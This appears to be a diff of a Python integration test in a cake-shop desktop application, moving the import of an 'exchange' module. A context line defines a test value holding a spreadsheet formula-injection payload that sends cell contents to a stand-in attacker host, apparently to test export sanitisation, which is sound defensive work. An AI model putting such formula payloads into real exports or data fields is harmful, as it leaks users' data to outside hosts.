@@ -8,8 +8,8 @@ import io
 
 from sqlalchemy import text
 
-from cakeshop_desktop.core import exchange
 from cakeshop_desktop.core.services import users
+from cakeshop_desktop.core.services.table_editor import exchange
 from tests.integration.support import cashier_sale
 
 NAME = '=HYPERLINK("http://evil.example/?"&A1,"Медовик")'
